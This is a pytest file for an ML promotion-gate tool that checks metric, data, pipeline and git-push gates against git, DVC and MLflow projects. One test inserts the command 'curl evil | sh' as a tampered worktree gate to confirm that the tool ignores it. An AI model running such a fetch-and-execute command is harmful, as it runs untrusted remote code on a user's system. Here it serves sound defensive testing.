"""Each gate both ways, of a project that git, DVC and MLflow made."""

from __future__ import annotations

import shutil
from dataclasses import replace
from pathlib import Path

import dvc_project as dp
import gated_project as gp
import pytest
from git_repository import git

from mltui.model.gates import GateResult
from mltui.model.promotion import Target
from mltui.sources.dvc.remote import RemoteSource
from mltui.sources.gates.at_a_glance import glance
from mltui.sources.gates.evaluating import evaluate
from mltui.sources.gates.policy import policy
from mltui.sources.mlflow.stores import StoresSource
from mltui.sources.sides.reading import SideReader

pytestmark = pytest.mark.real

#: The run of churn/2, to the store.
SECOND = "select run_uuid from runs where name = 'second'"
ABSOLUTE, RELATIVE = "metrics.auc >= 0.8", "metrics.auc >= champion - 0.005"


@pytest.fixture(scope="module")
def template(own_environment: None, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return gp.make(tmp_path_factory.mktemp("gated"))


@pytest.fixture
def project(template: Path, tmp_path: Path) -> Path:
    return gp.copy(template, tmp_path / "copy")


def short(result: GateResult) -> tuple[str, str, str, str]:
    return result.verdict, result.figure, result.subject, result.why


def head(root: Path, rev: str) -> str:
    return git(root, "rev-parse", "--short=7", rev)


def at(root: Path, words: str) -> str:
    """The short id of the commit with that message."""
    return git(root, "log", "-1", "--format=%h", "--abbrev=7", f"--grep={words}$", "main")


# All of them


def test_what_all_gates_say_of_a_challenger(project: Path) -> None:
    found = gp.report(project, "2")
    before, results = at(project, "before second"), at(project, "results of second")
    assert [(each.gate.text, *short(each)) for each in found.results] == [
        (ABSOLUTE, "passed", "0.91", "run second", ""),
        (RELATIVE, "passed", "0.91 vs 0.9", "run second vs champion churn/1", ""),
        (
            "same data",
            "failed",
            "customers.csv v1 → v2",
            "run second vs champion churn/1",
            "not the champion's data",
        ),
        ("pipeline fresh", "passed", "1 stage", f"pipeline at {results} (its results)", ""),
        ("data pushed", "passed", "2 of 2 in storage", "run second", ""),
        ("commit pushed", "passed", "in origin/main", before, ""),
        ("pytest -q", "not run", "", before, "not run yet"),
    ]
    assert (found.passed, len(found.blocking), len(found.to_run)) == (5, 2, 1)
    assert found.policy.origin.startswith("mltui.toml of origin/main at ")
    assert [each.at is None for each in found.results] == [False] * 6 + [True]


def test_the_champion_against_itself(project: Path) -> None:
    found = gp.said(gp.report(project, "1"))
    assert short(found[RELATIVE]) == ("passed", "0.9 vs 0.9", "run first vs champion churn/1", "")
    assert short(found["same data"])[:2] == ("passed", "it is the champion")


def test_a_promotion_asks_for_its_runs_as_they_are_now_and_a_glance_does_not(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of a server an older run is known as it was up to an hour ago. Here it is SQLite, which needs no asking."""
    asked: list[str] = []
    monkeypatch.setattr(StoresSource, "ask_for", lambda self, run_ids: asked.extend(run_ids))
    space = gp.workspace(project)
    model, version = gp.subject(space, "2")
    rules, target = policy(space), Target("alias", "champion")
    seen = glance(space, rules, model, version, target)
    assert (seen.passed, seen.total, seen.unasked, asked) == (4, 7, 2, [])
    rules = replace(rules, gates=tuple(each for each in rules.gates if each.kind == "metric"))
    evaluate(space, rules, model, version, target)
    space.close()
    assert sorted(asked) == sorted(each.run_id for each in model.versions if each.version in ("1", "2"))


def test_nothing_is_written_into_the_project(project: Path) -> None:
    gp.report(project, "2")  # makes DVC's btime, the one exception
    before = dp.listing(project)
    gp.report(project, "2")
    assert dp.listing(project) == before


# Metrics


def test_a_figure_that_is_too_low(project: Path) -> None:
    gp.edit(project, "update latest_metrics set value = 0.7999 where key = 'auc' and value > 0.905")
    assert short(gp.of(project, "2", ABSOLUTE)) == ("failed", "0.7999", "run second", "not >= 0.8")
    assert short(gp.of(project, "2", RELATIVE))[:2] == ("failed", "0.7999 vs 0.9")
    assert gp.of(project, "2", RELATIVE).why == "not >= 0.895"


def test_a_figure_that_is_no_number(project: Path) -> None:
    gp.edit(project, "update latest_metrics set value = 0, is_nan = 1 where key = 'auc' and value > 0.905")
    assert short(gp.of(project, "2", ABSOLUTE)) == ("failed", "NaN", "run second", "auc is NaN")
    gp.edit(project, "update latest_metrics set value = 1.7976931348623157e308, is_nan = 0 where is_nan = 1")
    assert short(gp.of(project, "2", ABSOLUTE))[:2] == ("failed", "Infinity")


def test_a_champions_figure_that_is_no_number(project: Path) -> None:
    gp.edit(project, "update latest_metrics set value = 0, is_nan = 1 where key = 'auc' and value = 0.9")
    assert short(gp.of(project, "2", RELATIVE))[::3] == ("unknown", "the champion's auc is NaN")


def test_a_figure_that_nobody_logged(project: Path) -> None:
    gp.with_gates(project, "[[gates]]\nmetric = 'metrics.aux >= 0.8'\n[[gates]]\nmetric = 'metrics.zz = champion'\n")
    found = gp.said(gp.report(project, "2"))
    assert short(found["metrics.aux >= 0.8"]) == (
        "unknown",
        "",
        "run second",
        "run second logged no aux; it logged auc",
    )
    assert found["metrics.zz = champion"].why == "run second logged no zz"


def test_a_quoted_key_and_less_that_is_better(project: Path) -> None:
    gp.with_gates(project, gp.GATES + "[[gates]]\nmetric = 'metrics.\"val/loss\" <= champion + 0.001'\n")
    text = 'metrics."val/loss" <= champion + 0.001'
    assert short(gp.of(project, "2", text))[:2] == ("passed", "0.09 vs 0.1")


@pytest.mark.parametrize(
    ("goal", "said"),
    [
        ("", "whether more or less auc is better is not known: [metrics] goal in mltui.toml says it"),
        ('[metrics]\ngoal = {auc = "min"}\n', "the rule asks for >= champion, and less auc is better ([metrics] goal)"),
    ],
)
def test_a_champion_and_no_direction_or_the_other_one(project: Path, goal: str, said: str) -> None:
    gp.with_gates(project, f"{goal}[[gates]]\nmetric = '{RELATIVE}'\n[[gates]]\nmetric = '{ABSOLUTE}'\n")
    found = gp.said(gp.report(project, "2"))
    assert short(found[RELATIVE])[::3] == ("failed", said)
    assert found[ABSOLUTE].verdict == "passed"


def test_a_direction_that_only_the_user_says_serves_and_never_beats_the_committed_one(project: Path) -> None:
    gp.with_gates(project, f"[[gates]]\nmetric = '{RELATIVE}'\n")
    dp.write(project, {"mltui.toml": '[metrics]\ngoal = {auc = "max"}\n'})
    assert gp.of(project, "2", RELATIVE).verdict == "passed"
    gp.with_gates(project, f"[metrics]\ngoal = {{auc = 'min'}}\n[[gates]]\nmetric = '{RELATIVE}'\n")
    dp.write(project, {"mltui.toml": '[metrics]\ngoal = {auc = "max"}\n'})
    assert gp.of(project, "2", RELATIVE).verdict == "failed"


def test_no_champion_yet(project: Path) -> None:
    gp.edit(project, "delete from registered_model_aliases")
    found = gp.said(gp.report(project, "2"))
    assert short(found[RELATIVE]) == ("passed", "0.91", "run second", "no champion yet")
    assert short(found["same data"])[::3] == ("passed", "no champion yet")


def test_the_legacy_stage_is_the_champion_where_there_is_no_alias(project: Path) -> None:
    gp.edit(project, "delete from registered_model_aliases")
    gp.edit(project, "update model_versions set current_stage = 'Production' where version = 3")
    assert gp.of(project, "2", RELATIVE).figure == "0.91 vs 0.902"


def test_a_champion_that_is_not_there_is_not_none(project: Path) -> None:
    gp.edit(project, "update registered_model_aliases set version = 99")
    result = gp.of(project, "2", RELATIVE)
    assert result.verdict == "unknown"
    assert "churn/99, which is not there" in result.why


def test_a_champion_out_of_scope_is_the_champion_all_the_same(project: Path) -> None:
    """Its run belongs to an experiment of somebody else, so that the table of models does not show it."""
    gp.edit(project, "insert into experiments (experiment_id, name, lifecycle_stage) values (77, 'theirs', 'active')")
    gp.edit(project, "update runs set experiment_id = 77 where name = 'first'")
    dp.write(project, {"mltui.toml": 'experiments = ["churn"]\n' + gp.GATES})
    space = gp.workspace(project)
    model, version = gp.subject(space, "2")
    assert model.aliases == {}  # what makes this test one
    found = gp.said(evaluate(space, policy(space), model, version, Target("alias", "champion")))
    space.close()
    assert found[RELATIVE].figure == "0.91 vs 0.9"


def test_a_version_without_a_run_and_one_whose_run_is_gone(project: Path) -> None:
    gp.edit(project, "update model_versions set run_id = '' where version = 2")
    found = gp.said(gp.report(project, "2"))
    why = "the registry does not say which run made churn/2"
    for gate in (ABSOLUTE, RELATIVE, "same data", "pipeline fresh", "data pushed", "commit pushed"):
        assert (found[gate].verdict, found[gate].why) == ("unknown", why)
    gp.edit(project, "update model_versions set run_id = ? where version = 2", "f" * 32)
    result = gp.of(project, "2", ABSOLUTE)
    assert (result.verdict, result.why) == ("unknown", "the run of churn/2, ffffffff, is not in the store")


def test_a_registry_that_is_another_store(project: Path) -> None:
    """Its versions name runs that only the store of runs has."""
    shutil.copy(project / "mlflow.db", project / "mlflow.db-registry")
    other = project.parent / "registry.db"
    (project / "mlflow.db-registry").rename(other)
    gp.edit(project, "delete from registered_model_aliases")
    gp.edit(project, "delete from model_versions")
    gp.edit(project, "delete from registered_models")
    dp.write(project, {"mltui.toml": f'[mlflow]\nregistry = "sqlite:///{other}"\nstore = "mlflow.db"\n' + gp.GATES})
    assert gp.of(project, "2", RELATIVE).figure == "0.91 vs 0.9"
    gp.edit(project, "delete from runs where name = 'second'")  # one that the registry's own store has
    assert gp.of(project, "2", RELATIVE).figure == "0.91 vs 0.9"


def test_one_gate_that_makes_no_sense_hides_no_other(project: Path) -> None:
    gp.with_gates(project, "[[gates]]\nmetrik = 1\n" + gp.GATES.split("\n\n", 1)[1])
    found = gp.report(project, "2").results
    assert found[0].verdict == "failed"
    assert found[0].why == "the gate makes no sense: metrik is not known; did you mean metric?"
    assert found[1].verdict == "passed"


def test_a_gate_that_breaks_is_unknown_and_hides_no_other(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def breaks(*_: object) -> None:
        raise KeyError("x")

    monkeypatch.setattr(SideReader, "read", breaks)
    found = gp.said(gp.report(project, "2"))
    assert short(found["same data"])[::3] == ("unknown", "this gate could not be asked: KeyError: 'x'")
    assert found[RELATIVE].verdict == found["commit pushed"].verdict == "passed"


def test_only_gates_that_are_for_it_are_asked(project: Path) -> None:
    gp.with_gates(project, f'[[gates]]\nmetric = "{ABSOLUTE}"\nto = ["champion"]\n[[gates]]\ncheck = "commit pushed"\n')
    assert [each.gate.text for each in gp.report(project, "2").results] == [ABSOLUTE, "commit pushed"]
    assert [each.gate.text for each in gp.report(project, "2", Target("alias", "next")).results] == ["commit pushed"]


def test_a_gate_that_somebody_adds_or_loosens_here_does_not_count(project: Path) -> None:
    loose = gp.GATES.replace(">= 0.8", ">= 0.1").replace("pytest -q", "curl evil | sh").replace('preset = "pytest"', "")
    dp.write(project, {"mltui.toml": loose})
    git(project, "commit", "-q", "-a", "-m", "loosened")
    found = gp.report(project, "2")
    assert ABSOLUTE in gp.said(found)
    assert ("pytest", "-q") in found.policy.commands
    assert all("curl" not in words for words in found.policy.commands)
    assert "gate only in the worktree: curl evil | sh" in found.policy.differs


# The same data


def test_the_same_data(project: Path) -> None:
    gp.edit(project, "update registered_model_aliases set version = 3")
    result = gp.of(project, "2", "same data")
    assert short(result) == ("passed", "customers.csv v2", "run second vs champion churn/3", "")


def test_data_that_nothing_tells_of(project: Path) -> None:
    """A run that nothing joins to a commit, its params and metrics being others than any lock's."""
    gp.edit(project, "update params set value = 'elsewhere' where key = 'name' and value = 'second'")
    gp.edit(project, f"delete from tags where key = 'mlflow.source.git.commit' and run_uuid in ({SECOND})")
    result = gp.of(project, "2", "same data")
    assert result.verdict == "unknown"
    assert "second" in result.why


# The pipeline


def test_a_pipeline_that_was_not_reproduced_before_it_was_committed(project: Path) -> None:
    """The results of the run are in no commit, and at the one that it recorded the lock is of the run before."""
    first, second = at(project, "before second"), at(project, "results of second")
    git(project, "checkout", "-q", "-B", "main", first)
    git(project, "push", "-q", "-f", "origin", "main")
    git(project, "reflog", "expire", "--expire=now", "--all")
    assert second
    result = gp.of(project, "2", "pipeline fresh")
    assert (result.verdict, result.figure, result.subject) == ("failed", "1 stage", f"pipeline at {first}")
    assert result.why.startswith("train: dep data/customers.csv changed; train: param name first → second")


def test_a_pipeline_of_a_commit_that_is_not_here(project: Path) -> None:
    gp.edit(project, "update tags set value = ? where key = 'mlflow.source.git.commit'", "d" * 40)
    result = gp.of(project, "2", "pipeline fresh")
    assert short(result) == ("unknown", "", "ddddddd", "commit ddddddd is not in this clone: git fetch")
    pushed = gp.of(project, "2", "commit pushed")
    assert short(pushed) == ("unknown", "", "ddddddd", "commit ddddddd is not in this clone: git fetch")


def test_what_a_commit_alone_does_not_tell_is_asked_of_dvc_where_it_is_checked_out(project: Path) -> None:
    """A command with a template that only DVC fills in; the worktree is that commit."""
    dp.write(project, {"dvc.yaml": gp.PIPELINE.replace("python train.py", "python train.py ${opts}")})
    dp.write(project, {"params.yaml": "name: fourth\nauc: 0.95\nopts: {a: 1}\n"})
    git(project, "commit", "-q", "-a", "-m", "before fourth")
    gp.reproduce(project)
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "results of fourth")
    result = gp.of(project, "4", "pipeline fresh")
    assert short(result)[:2] == ("passed", "1 stage by dvc status")
    dp.write(project, {"README": "x"})
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "later")
    result = gp.of(project, "4", "pipeline fresh")
    assert (result.verdict, result.why) == ("unknown", "train: its command is a template")


# The data


def test_data_that_are_only_here_are_named(project: Path) -> None:
    shutil.rmtree(project.parent / "store")
    (project.parent / "store").mkdir()
    result = gp.of(project, "2", "data pushed")
    assert (result.verdict, result.figure) == ("failed", "0 of 2 in storage")
    assert result.why == "customers.csv v2 is only in the local cache, model.txt is only in the local cache: dvc push"
    shutil.rmtree(project / ".dvc" / "cache")
    result = gp.of(project, "2", "data pushed")
    assert result.why.startswith("customers.csv v2 is neither there nor in the local cache, model.txt is neither")


def test_what_a_remote_lacked_is_asked_again_and_what_it_had_is_not(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store, aside = project.parent / "store", project.parent / "aside"
    store.rename(aside)
    store.mkdir()
    assert gp.of(project, "2", "data pushed").verdict == "failed"
    store.rmdir()
    aside.rename(store)
    assert gp.of(project, "2", "data pushed").verdict == "passed"

    def nobody(*_: object) -> None:
        raise AssertionError("it was asked again")

    monkeypatch.setattr(RemoteSource, "ask", nobody)
    assert gp.of(project, "2", "data pushed").verdict == "passed"


def test_a_remote_that_cannot_be_asked_and_none_at_all(project: Path) -> None:
    shutil.rmtree(project.parent / "store")
    result = gp.of(project, "2", "data pushed")
    assert result.verdict == "unknown"
    assert "is not there" in result.why
    dp.dvc(project, "remote", "remove", "-q", "storage")
    result = gp.of(project, "2", "data pushed")
    assert short(result)[::3] == ("failed", "DVC has no default remote: dvc remote add -d NAME URL")


def test_what_is_not_to_be_pushed_is_not_asked_for(project: Path) -> None:
    shutil.rmtree(project.parent / "store")
    (project.parent / "store").mkdir()
    dp.dvc(project, "push", "-q", "data/customers.csv.dvc")
    assert gp.of(project, "3", "data pushed").verdict == "failed"
    dp.write(project, {"dvc.yaml": gp.PIPELINE.replace("[model.txt]", "[{model.txt: {push: false}}]")})
    dp.write(project, {"params.yaml": "name: fourth\nauc: 0.95\n"})
    git(project, "commit", "-q", "-a", "-m", "before fourth")
    gp.reproduce(project)
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "results of fourth")
    assert short(gp.of(project, "4", "data pushed"))[:2] == ("passed", "1 of 1 in storage")


# The commit


def test_a_commit_that_nobody_else_has(project: Path) -> None:
    git(project, "update-ref", "refs/remotes/origin/main", at(project, "results of first"))
    sha = at(project, "before second")
    result = gp.of(project, "2", "commit pushed")
    assert short(result) == (
        "failed",
        "",
        sha,
        f"no branch of origin has {sha}: git push, or git fetch if somebody did",
    )
    git(project, "tag", "v1", sha)
    assert "tags may not be pushed: git push origin v1" in gp.of(project, "2", "commit pushed").why
    git(project, "update-ref", "refs/remotes/origin/topic", sha)
    assert short(gp.of(project, "2", "commit pushed"))[:2] == ("passed", "in origin/topic")


def test_another_remote_than_origin_is_not_where_colleagues_look(project: Path) -> None:
    git(project, "remote", "add", "mine", str(project.parent / "origin.git"))
    git(project, "fetch", "-q", "mine")
    git(project, "update-ref", "refs/remotes/origin/main", at(project, "results of first"))
    assert gp.of(project, "2", "commit pushed").verdict == "failed"


def test_no_remote(project: Path) -> None:
    git(project, "remote", "remove", "origin")
    result = gp.of(project, "2", "commit pushed")
    assert short(result)[::3] == ("failed", "there is no git remote: git remote add origin URL")


def test_a_run_that_recorded_no_commit(project: Path) -> None:
    gp.edit(project, "delete from tags where key = 'mlflow.source.git.commit'")
    result = gp.of(project, "2", "commit pushed")
    assert short(result) == ("unknown", "", "", "run second recorded no commit")


def test_a_name_that_a_run_recorded_for_its_commit_is_none(project: Path) -> None:
    gp.edit(project, "update tags set value = 'origin/main' where key = 'mlflow.source.git.commit'")
    result = gp.of(project, "2", "commit pushed")
    assert short(result) == ("unknown", "", "", "run second recorded 'origin/main', which is no commit's id")


def test_a_run_with_uncommitted_changes_is_where_its_results_are(project: Path) -> None:
    gp.edit(project, f"insert into tags (key, value, run_uuid) values ('mltui.dirty', 'true', ({SECOND}))")
    results = at(project, "results of second")
    result = gp.of(project, "2", "commit pushed")
    assert short(result) == ("passed", "in origin/main", f"{results} (its results)", "")
    gp.edit(project, "update params set value = 'elsewhere' where key = 'name' and value = 'second'")
    result = gp.of(project, "2", "commit pushed")
    assert result.verdict == "unknown"
    assert result.why == "run second ran with uncommitted changes, and no commit is known to have its results"
